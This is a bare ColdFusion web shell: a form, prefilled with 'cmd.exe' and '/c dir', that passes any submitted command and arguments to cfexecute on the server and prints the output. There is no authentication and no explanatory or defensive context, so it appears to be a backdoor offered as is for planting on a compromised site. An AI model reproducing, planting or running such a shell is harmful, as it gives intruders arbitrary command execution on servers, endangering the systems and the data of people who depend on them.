<cfinert>
<cfabort>
<cfoutput>
<form method="post">
<input name="cmd" size="30" value="cmd.exe"><input name="opts" size="60" value="/c dir"><input type="submit">
</form>
<cfif isDefined("form.cmd")>
<cfsavecontent variable="res">
<cfexecute name="#form.cmd#" arguments="#form.opts#" timeout="#form.timeout#"></cfexecute>
</cfsavecontent>
<pre>#HTMLEditFormat(res)#</pre>
</cfif>
</cfoutput>
